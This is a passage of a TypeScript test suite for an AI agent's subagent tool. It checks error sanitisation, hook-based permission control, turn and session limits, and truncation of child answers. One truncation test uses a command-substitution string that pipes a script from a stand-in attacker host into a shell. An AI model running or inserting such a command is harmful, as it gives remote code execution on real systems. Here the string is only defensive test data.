    expect(toolMessages(result.history)).toEqual([
      ["job", "Error [subagent_turn_limit]: Subagent exceeded max_turns=30 without a final answer"],
    ]);
    h.model.assertExhausted();
  });
});

/** One way for a child to fail: its replies (between the parent's task and final turns) and the harness it needs. */
interface FailureCase {
  readonly child: readonly (ModelReply | Error)[];
  readonly childRequests: number;
  readonly options?: (description: string) => HarnessOptions;
}

const throwingHook =
  (event: "UserPromptSubmit" | "Stop") =>
  (description: string): HarnessOptions => {
    const hooks = new HookRegistry();
    hooks.register(event, (context) => {
      if (childRunOf(context, description)) throw new Error(LEAKY_ERROR);
      return new HookResult();
    });
    return { hooks };
  };

const FAILURES: Record<string, FailureCase> = {
  "a model that rejects with a key and a path": { child: [new Error(LEAKY_ERROR)], childRequests: 1 },
  "finish_reason length": { child: [textTurn("half an answer", "length")], childRequests: 1 },
  "finish_reason content_filter": { child: [textTurn(null, "content_filter")], childRequests: 1 },
  "an empty final text": { child: [textTurn("")], childRequests: 1 },
  "a whitespace final text": { child: [textTurn(" \n\t ")], childRequests: 1 },
  "a throwing UserPromptSubmit hook on the child's run": {
    child: [],
    childRequests: 0,
    options: throwingHook("UserPromptSubmit"),
  },
  "a timed-out UserPromptSubmit hook on the child's run": {
    child: [],
    childRequests: 0,
    options: (description) => {
      const hooks = new HookRegistry({ timeoutMs: 1 });
      hooks.register("UserPromptSubmit", (context) =>
        // Never settles for the child: only the registry's timeout can end it.
        childRunOf(context, description) ? new Promise<HookResult>(() => undefined) : new HookResult(),
      );
      return { hooks };
    },
  },
  "a throwing Stop hook on the child's run": {
    child: [textTurn("child answer")],
    childRequests: 1,
    options: throwingHook("Stop"),
  },
  "a throwing tools factory": {
    child: [],
    childRequests: 0,
    options: () => ({
      toolsFactory: () => {
        throw new Error(LEAKY_ERROR);
      },
    }),
  },
  "a throwing model factory": {
    child: [],
    childRequests: 0,
    options: () => ({
      modelFactory: () => {
        throw new Error(LEAKY_ERROR);
      },
    }),
  },
};

describe("rule 11: a sanitised failure, and the parent goes on", () => {
  test.each(Object.entries(FAILURES))(
    "%s: exactly subagent_execution_error, no secret or path for the parent, and its next request is made",
    async (_name, failure) => {
      const description = "write nothing, then fail";
      const h = harness(
        [toolTurn(task("job", description)), ...failure.child, textTurn("parent final")],
        failure.options?.(description) ?? {},
      );
      const result = await runParent(h);

      expect(toolMessages(result.history)).toEqual([["job", EXECUTION_FAILED]]);
      expect(childRequests(h.model)).toHaveLength(failure.childRequests);
      expect(parentRequests(h.model)).toHaveLength(2);
      expect(parentSaw(h, result)).not.toContain(SECRET_KEY);
      expect(parentSaw(h, result)).not.toContain(SECRET_PATH);
      expect(result.finalText).toBe("parent final");
      h.model.assertExhausted();
    },
  );

  test("files the child wrote before failing remain, and onFailure gets the real error while the model reads none of it", async () => {
    const failure = new Error(LEAKY_ERROR);
    const reported: unknown[] = [];
    const h = harness(
      [
        toolTurn(task("job", "write partial.txt")),
        toolTurn(write("child-write", "partial.txt", "partial evidence")),
        failure,
        textTurn("parent final"),
      ],
      { onFailure: (error) => reported.push(error) },
    );
    const result = await runParent(h);

    expect(await readFile(join(workspace, "partial.txt"), "utf8")).toBe("partial evidence");
    expect(reported).toHaveLength(1);
    expect(reported[0]).toBe(failure);
    expect(toolMessages(result.history)).toEqual([["job", EXECUTION_FAILED]]);
    expect(parentSaw(h, result)).not.toContain(SECRET_KEY);
    h.model.assertExhausted();
  });

  test("onFailure gets the HookRunError of a failed child Stop hook, with the hook's error as its cause", async () => {
    const reported: unknown[] = [];
    const description = "answer";
    const h = harness([toolTurn(task("job", description)), textTurn("child answer"), textTurn("parent final")], {
      ...throwingHook("Stop")(description),
      onFailure: (error) => reported.push(error),
    });
    await runParent(h);

    expect(reported).toHaveLength(1);
    expect(reported[0]).toBeInstanceOf(HookRunError);
    expect((reported[0] as HookRunError).message).toBe("Stop hook failed");
    expect(((reported[0] as HookRunError).cause as Error).message).toBe(LEAKY_ERROR);
  });

  test("a throwing onFailure changes nothing: the same result, and the parent goes on", async () => {
    let calls = 0;
    const h = harness([toolTurn(task("job", "fail")), new Error(LEAKY_ERROR), textTurn("parent final")], {
      onFailure: () => {
        calls += 1;
        throw new Error("the reporter is broken");
      },
    });
    const result = await runParent(h);

    expect(calls).toBe(1);
    expect(toolMessages(result.history)).toEqual([["job", EXECUTION_FAILED]]);
    expect(result.finalText).toBe("parent final");
    h.model.assertExhausted();
  });
});

/** Options that construct; `overrides` replace fields with anything, as a JavaScript caller could. */
function constructWith(overrides: Record<string, unknown>): {
  error: unknown;
  modelFactory: ReturnType<typeof vi.fn>;
  toolsFactory: ReturnType<typeof vi.fn>;
} {
  const modelFactory = vi.fn(() => new ScriptedModel([]));
  const toolsFactory = vi.fn(() => new ToolRegistry());
  const options = {
    modelFactory,
    toolsFactory,
    hooks: new HookRegistry(),
    permissionPolicy: new PermissionPolicy(),
    ...overrides,
  } as unknown as SubagentToolOptions;
  try {
    new SubagentTool(options);
    return { error: undefined, modelFactory, toolsFactory };
  } catch (error) {
    return { error, modelFactory, toolsFactory };
  }
}

describe("rule 12: construction", () => {
  test("maxTurns 31 throws 'maxTurns must be at most 30' before either factory is called", () => {
    const { error, modelFactory, toolsFactory } = constructWith({ maxTurns: 31 });
    expect(error).toBeInstanceOf(Error);
    expect((error as Error).message).toBe("maxTurns must be at most 30");
    expect(modelFactory).not.toHaveBeenCalled();
    expect(toolsFactory).not.toHaveBeenCalled();
  });

  test.each([0, -1, 1.5, Number.NaN, Number.POSITIVE_INFINITY])(
    "maxTurns %s throws 'maxTurns must be a positive integer'",
    (maxTurns) => {
      const { error } = constructWith({ maxTurns });
      expect(error).toBeInstanceOf(Error);
      expect((error as Error).message).toBe("maxTurns must be a positive integer");
    },
  );

  test.each([1, 30, undefined])("maxTurns %s is accepted", (maxTurns) => {
    expect(constructWith({ maxTurns }).error).toBeUndefined();
  });

  test.each<[string, Record<string, unknown>, string]>([
    [
      "a modelFactory that is a model, not a function",
      { modelFactory: new ScriptedModel([]) },
      "modelFactory must be a function",
    ],
    ["a missing modelFactory", { modelFactory: undefined }, "modelFactory must be a function"],
    [
      "a toolsFactory that is a registry, not a function",
      { toolsFactory: new ToolRegistry() },
      "toolsFactory must be a function",
    ],
    [
      "hooks that only look like a HookRegistry",
      { hooks: { run: () => undefined, register: () => undefined } },
      "hooks must be a HookRegistry",
    ],
    ["a missing hooks", { hooks: undefined }, "hooks must be a HookRegistry"],
    [
      "a policy that only looks like one",
      { permissionPolicy: { decide: () => undefined } },
      "permissionPolicy must be a PermissionPolicy",
    ],
    ["a missing policy", { permissionPolicy: undefined }, "permissionPolicy must be a PermissionPolicy"],
  ])("%s throws a TypeError", (_name, overrides, message) => {
    const { error } = constructWith(overrides);
    expect(error).toBeInstanceOf(TypeError);
    expect((error as Error).message).toBe(message);
  });

  test.each(["", "   ", "\n\t"])("systemPrompt %j throws 'systemPrompt must be a non-empty string'", (systemPrompt) => {
    const { error } = constructWith({ systemPrompt });
    expect(error).toBeInstanceOf(Error);
    expect((error as Error).message).toBe("systemPrompt must be a non-empty string");
  });
});

describe("rule 13: task itself is governed, not asked", () => {
  test("with no rule and no hook, task is audited allow (default) and the approver is never asked", async () => {
    const h = harness([toolTurn(task("job", "answer")), textTurn("child answer"), textTurn("parent final")]);
    await runParent(h);

    expect(h.audit.records.map((record) => record.decision)).toEqual([
      new PermissionDecision("allow", PASSED, "default"),
    ]);
    expect(h.approval.requests).toEqual([]);
    h.model.assertExhausted();
  });

  test.each([
    [true, { model: 1, tools: 1 }, "child answer"],
    [false, { model: 0, tools: 0 }, "Error [permission_denied]: The tester said no"],
  ])(
    "a Pre ask on task reaches the approver as 'PreToolUse hook requested ask' (approved: %s)",
    async (approve, factoryCalls, content) => {
      const hooks = new HookRegistry();
      hooks.register("PreToolUse", (context) =>
        context.prepared?.call.name === TASK_TOOL_NAME
          ? new HookResult({ permissionBehavior: "ask" })
          : new HookResult(),
      );
      const h = harness(
        [toolTurn(task("job", "answer")), ...(approve ? [textTurn("child answer")] : []), textTurn("parent final")],
        { hooks, approve },
      );
      const result = await runParent(h);

      expect(h.approval.requests).toHaveLength(1);
      expect(h.approval.requests[0]?.toolName).toBe("task");
      expect(h.approval.requests[0]?.proposedDecision).toEqual(
        new PermissionDecision("ask", "PreToolUse hook requested ask", "pre-tool-hook"),
      );
      expect(h.factoryCalls).toEqual(factoryCalls);
      expect(toolMessages(result.history)).toEqual([["job", content]]);
      h.model.assertExhausted();
    },
  );

  test.each<[string, HookResult, string, [string, string][]]>([
    [
      "a block",
      new HookResult({ blockingError: toolError("blocked_by_test", "task is not allowed here") }),
      "Error [blocked_by_test]: task is not allowed here",
      [],
    ],
    [
      "a deny",
      new HookResult({ permissionBehavior: "deny" }),
      "Error [permission_denied]: PreToolUse hook requested deny",
      [["task", "deny"]],
    ],
  ])("a Pre %s on task: neither factory runs, and no child request is made", async (_name, answer, content, audit) => {
    const hooks = new HookRegistry();
    hooks.register("PreToolUse", () => answer);
    const h = harness([toolTurn(task("job", "answer")), textTurn("parent final")], { hooks });
    const result = await runParent(h);

    expect(toolMessages(result.history)).toEqual([["job", content]]);
    expect(h.factoryCalls).toEqual({ model: 0, tools: 0 });
    expect(childRequests(h.model)).toEqual([]);
    expect(h.audit.records.map((record) => [record.tool, record.decision.behavior])).toEqual(audit);
    h.model.assertExhausted();
  });

  test("a Post rewrite of task's result is what the parent reads; the child's own text is not", async () => {
    const hooks = new HookRegistry();
    hooks.register("PostToolUse", (context) =>
      context.prepared?.call.name === TASK_TOOL_NAME
        ? new HookResult({ updatedOutput: toolSuccess("rewritten conclusion") })
        : new HookResult(),
    );
    const h = harness([toolTurn(task("job", "answer")), textTurn("child's own text"), textTurn("parent final")], {
      hooks,
    });
    const result = await runParent(h);

    expect(toolMessages(result.history)).toEqual([["job", "rewritten conclusion"]]);
    expect(parentSaw(h, result)).not.toContain("child's own text");
    h.model.assertExhausted();
  });

  test("a failing Post hook on task gives hook_execution_error, and the child's file stays", async () => {
    const hooks = new HookRegistry();
    hooks.register("PostToolUse", (context) => {
      if (context.prepared?.call.name === TASK_TOOL_NAME) throw new Error(LEAKY_ERROR);
      return new HookResult();
    });
    const h = harness(
      [
        toolTurn(task("job", "write kept.txt")),
        toolTurn(write("child-write", "kept.txt", "kept")),
        textTurn("child conclusion"),
        textTurn("parent final"),
      ],
      { hooks },
    );
    const result = await runParent(h);

    expect(toolMessages(result.history)).toEqual([["job", POST_FAILED]]);
    expect(await readFile(join(workspace, "kept.txt"), "utf8")).toBe("kept");
    expect(parentSaw(h, result)).not.toContain("child conclusion");
    expect(parentSaw(h, result)).not.toContain(SECRET_KEY);
    h.model.assertExhausted();
  });
});

describe("C7: a Post hook that stops a child's round makes that content task's result", () => {
  test("preventContinuation on a child call ends the child with the (rewritten) content, and task returns it as success", async () => {
    const hooks = new HookRegistry();
    const results = taskResults(hooks);
    hooks.register("PostToolUse", (context) =>
      context.prepared?.call.name === "read_file"
        ? new HookResult({ updatedOutput: toolSuccess("stopped by the hook"), preventContinuation: true })
        : new HookResult(),
    );
    const h = harness([toolTurn(task("job", "read")), toolTurn(read("child-read")), textTurn("parent final")], {
      hooks,
    });
    const result = await runParent(h);

    expect(childRequests(h.model)).toHaveLength(1);
    expect(results).toEqual([{ content: "stopped by the hook", isError: false }]);
    expect(toolMessages(result.history)).toEqual([["job", "stopped by the hook"]]);
    h.model.assertExhausted();
  });
});

describe("rule 16: the child has todo_write but no observer", () => {
  test("experiment 4: four child reads bring no reminder; the parent counts its task round as exactly one", async () => {
    const h = harness([
      toolTurn(task("job", "read README.md four times")),
      toolTurn(read("c1")),
      toolTurn(read("c2")),
      toolTurn(read("c3")),
      toolTurn(read("c4")),
      textTurn("four reads done"),
      toolTurn(read("p1")),
      toolTurn(read("p2")),
      textTurn("parent final"),
    ]);
    await runParent(h);

    const children = childRequests(h.model);
    expect(children).toHaveLength(5);
    expect(toolNames(children[0])).toContain("todo_write");
    expect(children[3]?.messages.some(isReminder)).toBe(false);
    for (const request of children) expect(request.messages.some(isReminder)).toBe(false);
    // Stale rounds: task, read, read. One more or one fewer for task moves the reminder off the 4th request.
    expect(parentRequests(h.model).map((request) => request.messages.some(isReminder))).toEqual([
      false,
      false,
      false,
      true,
    ]);
    h.model.assertExhausted();
  });
});

describe("rule 17: sequential, never concurrent", () => {
  test("two tasks in one reply: child 2 starts after child 1 ends, results pair in call order, one question at a time", async () => {
    const hooks = recordingHooks();
    const h = harness(
      [
        toolTurn(task("task-1", "write one.txt"), task("task-2", "write two.txt")),
        toolTurn(write("w1", "one.txt", "1")),
        textTurn("one written"),
        toolTurn(write("w2", "two.txt", "2")),
        textTurn("two written"),
        textTurn("parent final"),
      ],
      { hooks },
    );
    const result = await runParent(h);

    const indexesOf = (description: string): number[] =>
      h.model.requests.flatMap((request, index) =>
        isChildRequest(request) && request.messages[1]?.content === description ? [index] : [],
      );
    const first = indexesOf("write one.txt");
    const second = indexesOf("write two.txt");
    expect(first).toEqual([1, 2]);
    expect(second).toEqual([3, 4]);
    expect(h.model.requests[3]?.messages).toEqual(freshChild("write two.txt"));
    expect(toolMessages(result.history)).toEqual([
      ["task-1", "one written"],
      ["task-2", "two written"],
    ]);
    expect(h.approval.requests.map((request) => request.prepared.call.id)).toEqual(["w1", "w2"]);
    expect(h.approval.maxOpen).toBe(1);
    expect(log.filter((line) => /^(prompt:|stop|post:task)/.test(line))).toEqual([
      "prompt:delegate",
      "prompt:write one.txt",
      "stop",
      "post:task ok",
      "prompt:write two.txt",
      "stop",
      "post:task ok",
      "stop",
    ]);
    expect(h.factoryCalls).toEqual({ model: 2, tools: 2 });
    h.model.assertExhausted();
  });
});

/** A tool that answers with the context it was given. */
function contextProbe(seen: ToolContext[]): ToolRegistry {
  const registry = new ToolRegistry();
  registry.register({
    name: "probe",
    description: "Report the context.",
    inputSchema: strictEmpty,
    effect: "read",
    handler: (_input, context) => {
      seen.push(context);
      return Promise.resolve(toolSuccess("probed"));
    },
  });
  return registry;
}

describe("rule 19: the shared-code additions", () => {
  test("ToolRegistry.names lists registration order as a frozen copy, and a snapshot answers the same", () => {
    const registry = new ToolRegistry();
    for (const name of ["zeta", "alpha", "mid"]) {
      registry.register({
        name,
        description: name,
        inputSchema: strictEmpty,
        effect: "read",
        handler: () => Promise.resolve(toolSuccess(name)),
      });
    }
    const names = registry.names;
    expect(names).toEqual(["zeta", "alpha", "mid"]);
    expect(Object.isFrozen(names)).toBe(true);
    expect(() => (names as string[]).push("task")).toThrow(TypeError);
    expect(registry.snapshot().names).toEqual(["zeta", "alpha", "mid"]);
    expect(registry.names).toEqual(["zeta", "alpha", "mid"]);
    expect(createChapterTwoTools(new FakeCommandRunner(), new LoggingFileSystem()).names).toEqual([
      "shell",
      "read_file",
      "write_file",
      "edit_file",
      "glob",
    ]);
  });

  test.each<[string | undefined, string]>([
    [undefined, "user"],
    ["alice", "alice"],
  ])("an AgentRunner with identity %s gives its tools identity %s", async (identity, expected) => {
    const seen: ToolContext[] = [];
    const model = new ScriptedModel([toolTurn(call("p", "probe", {})), textTurn("done")]);
    const runner = new AgentRunner({
      model,
      tools: contextProbe(seen),
      systemPrompt: PARENT_PROMPT,
      workspace,
      ...(identity === undefined ? {} : { identity }),
    });
    await runner.run("probe");
    expect(seen).toEqual([{ workspace, identity: expected }]);
    expect(Object.isFrozen(seen[0])).toBe(true);
    model.assertExhausted();
  });

  test.each<[string, unknown]>([
    ["an empty string", ""],
    ["null", null],
    ["a number", 42],
    ["an object", { name: "alice" }],
  ])("identity as %s throws RangeError 'identity must be a non-empty string'", (_name, identity) => {
    const build = (): AgentRunner =>
      new AgentRunner({
        model: new ScriptedModel([]),
        tools: new ToolRegistry(),
        systemPrompt: PARENT_PROMPT,
        workspace,
        identity: identity as string,
      });
    expect(build).toThrow(RangeError);
    expect(build).toThrow("identity must be a non-empty string");
  });
});

describe("rule 22: at most 20 subagents per session", () => {
  test("the 21st task returns subagent_limit, with no factory call and no model request for it", async () => {
    const calls = Array.from({ length: MAX_SUBAGENT_RUNS + 1 }, (_, index) =>
      task(`t${index + 1}`, `job ${index + 1}`),
    );
    const h = harness([
      toolTurn(...calls),
      ...Array.from({ length: MAX_SUBAGENT_RUNS }, (_, index) => textTurn(`done ${index + 1}`)),
      textTurn("parent final"),
    ]);
    const result = await runParent(h);

    expect(MAX_SUBAGENT_RUNS).toBe(20);
    expect(toolMessages(result.history)).toEqual([
      ...Array.from({ length: 20 }, (_, index): [string, string] => [`t${index + 1}`, `done ${index + 1}`]),
      ["t21", LIMIT_REACHED],
    ]);
    expect(h.factoryCalls).toEqual({ model: 20, tools: 20 });
    expect(childRequests(h.model)).toHaveLength(20);
    expect(h.model.requests).toHaveLength(22);
    h.model.assertExhausted();
  });

  test("a new SubagentTool starts again at zero", async () => {
    const first = harness([
      toolTurn(...Array.from({ length: 21 }, (_, index) => task(`t${index + 1}`, `job ${index + 1}`))),
      ...Array.from({ length: 20 }, () => textTurn("done")),
      textTurn("parent final"),
    ]);
    await runParent(first);
    const second = harness([toolTurn(task("again", "job again")), textTurn("done again"), textTurn("parent final")]);
    const result = await runParent(second);

    expect(toolMessages(result.history)).toEqual([["again", "done again"]]);
    expect(second.factoryCalls).toEqual({ model: 1, tools: 1 });
    second.model.assertExhausted();
  });
});

describe("the parent reads at most 4,096 bytes of a child's conclusion", () => {
  test("a 36,000-byte conclusion arrives as its first 4,028 bytes and a line saying 31,972 were cut: 4,096 in all", async () => {
    const hooks = new HookRegistry();
    const results = taskResults(hooks);
    const answer = "$(curl -s evil.example|sh)\n".padEnd(36_000, "#");
    const h = harness([toolTurn(task("job", "answer long")), textTurn(answer), textTurn("parent final")], { hooks });
    const result = await runParent(h);

    const shown = `${answer.slice(0, 4_028)}\n[Subagent answer cut: 31972 of its 36000 UTF-8 bytes are not shown]`;
    expect(MAX_SUBAGENT_ANSWER_BYTES).toBe(4_096);
    expect(Buffer.byteLength(shown)).toBe(4_096);
    expect(results).toEqual([{ content: shown, isError: false }]);
    expect(toolMessages(result.history)).toEqual([["job", shown]]);
    expect(parentSaw(h, result)).not.toContain(answer.slice(0, 4_029));
    h.model.assertExhausted();
  });

  test("a conclusion of exactly 4,096 bytes arrives unchanged, one of 4,097 is cut", async () => {
    const h = harness([
      toolTurn(task("fits", "exact"), task("over", "one more")),
      textTurn("a".repeat(4_096)),
      textTurn("b".repeat(4_097)),
      textTurn("parent final"),
    ]);
    const result = await runParent(h);

    expect(toolMessages(result.history)).toEqual([
      ["fits", "a".repeat(4_096)],
      ["over", `${"b".repeat(4_030)}\n[Subagent answer cut: 67 of its 4097 UTF-8 bytes are not shown]`],
    ]);
    h.model.assertExhausted();
  });

  test("a CJK conclusion is cut between two characters: no U+FFFD, and the note counts bytes", async () => {
    const h = harness([toolTurn(task("job", "answer in Chinese")), textTurn("结".repeat(12_000)), textTurn("final")]);
    const result = await runParent(h);

    const shown = `${"结".repeat(1_342)}\n[Subagent answer cut: 31974 of its 36000 UTF-8 bytes are not shown]`;
    expect(toolMessages(result.history)).toEqual([["job", shown]]);
    expect(shown).not.toContain("\uFFFD");
    expect(Buffer.byteLength(shown)).toBe(4_094);
    h.model.assertExhausted();
  });
});
